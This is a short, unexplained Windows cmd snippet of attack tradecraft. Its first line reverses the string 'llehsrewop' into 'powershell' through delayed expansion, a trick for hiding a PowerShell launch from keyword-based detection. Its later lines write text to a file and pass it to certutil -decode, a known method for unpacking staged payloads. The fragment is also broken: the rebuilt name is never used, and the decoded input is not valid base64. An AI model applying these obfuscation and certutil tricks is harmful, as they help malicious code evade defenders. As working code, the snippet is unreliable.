cmd /v:on /c "set x=llehsrewop&&for /L %i in (9,-1,0) do set q=!q!!x:~%i,1!"
(
echo a^&b
) > q.txt
certutil -decode q.txt r.txt
